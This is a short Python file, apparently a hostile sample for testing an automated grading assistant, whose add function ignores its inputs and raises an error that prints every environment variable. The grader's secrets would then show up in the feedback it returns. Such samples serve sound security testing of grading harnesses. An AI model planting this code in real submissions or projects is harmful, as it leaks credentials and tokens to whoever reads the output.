# Hostile: raises every environment variable it inherited into its own feedback, the teaching assistant's secrets with them.
import os


def add(x, y):
    raise RuntimeError("environment: " + "; ".join(f"{name}={value}" for name, value in sorted(os.environ.items())))
